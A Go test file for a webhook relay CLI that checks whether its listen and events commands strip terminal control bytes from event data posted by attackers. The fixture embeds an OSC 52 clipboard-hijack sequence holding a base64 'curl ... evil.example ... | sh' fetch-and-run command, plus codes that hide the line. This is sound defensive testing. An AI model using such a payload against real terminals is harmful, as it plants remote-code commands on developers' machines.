package main

import (
	"net/http"
	"path/filepath"
	"strings"
	"testing"
)

// hostileAction is an event name a webhook sender chose: an OSC 52
// sequence that sets the terminal's clipboard to a shell command (base64 of
// "curl -s http://evil.example/x | sh\n"), then codes that erase the line
// and move the cursor up. JSON carries them as \u escapes; the relay and
// the agent decode them into the stored action.
const hostileAction = `payable.\u001b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\u0007created\u001b[2K\u001b[1A`

// controlBytes lists the control bytes (but newline) that s holds.
func controlBytes(s string) []byte {
	var out []byte
	for i := 0; i < len(s); i++ {
		if c := s[i]; c < 0x20 && c != '\n' || c == 0x7f {
			out = append(out, c)
		}
	}
	return out
}

// TestListenAndEventsListPrintNoControlBytes: anyone who can POST to the
// ingress URL picks the event name. `listen --no-tui` and `events list`
// print it to the developer's terminal as it is, escape codes and all: in
// one run the delivery line carried ESC ] 52 ... BEL (the clipboard now
// holds `curl ... | sh`, waiting to be pasted) and ESC [2K ESC [1A.
func TestListenAndEventsListPrintNoControlBytes(t *testing.T) {
	app := newCountingApp(t, 0)
	_, relayURL := startRelay(t)
	db := filepath.Join(t.TempDir(), "agent.db")
	listen := startProc(t, "listen", "--no-web", "--relay", relayURL, "--channel", "esc", "--forward-to", app.URL,
		"--db", db, "--no-tui", "--no-web")
	listen.line(t, "hooktap is ready")

	resp, err := http.Post(relayURL+"/h/esc", "application/json", strings.NewReader(`{"action":"`+hostileAction+`"}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	id := resp.Header.Get("X-Hooktap-Delivery")
	if resp.StatusCode != http.StatusOK || id == "" {
		t.Fatalf("post: %d", resp.StatusCode)
	}
	if l := listen.line(t, id); len(controlBytes(l)) > 0 {
		t.Errorf("listen --no-tui printed control bytes %q to the terminal:\n%q", controlBytes(l), l)
	}
	// A text body with raw escape codes, for events show.
	resp, err = http.Post(relayURL+"/h/esc", "text/plain", strings.NewReader("plain \x1b]52;c;Y3VybA==\x07 text\r\n"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	raw := resp.Header.Get("X-Hooktap-Delivery")
	listen.line(t, raw)
	listen.stop(t)
	out, errOut, code := hooktapOut(t, nil, "events", "show", raw, "--db", db)
	if code != 0 {
		t.Fatalf("events show: exit %d: %s", code, errOut)
	}
	if c := controlBytes(out); len(c) > 0 || !strings.Contains(out, "plain") {
		t.Errorf("events show printed control bytes %q to the terminal:\n%q", c, out)
	}

	out, errOut, code = hooktapOut(t, nil, "events", "list", "--db", db)
	if code != 0 {
		t.Fatalf("events list: exit %d: %s", code, errOut)
	}
	if c := controlBytes(out); len(c) > 0 {
		t.Errorf("events list printed control bytes %q to the terminal:\n%q", c, out)
	}
}
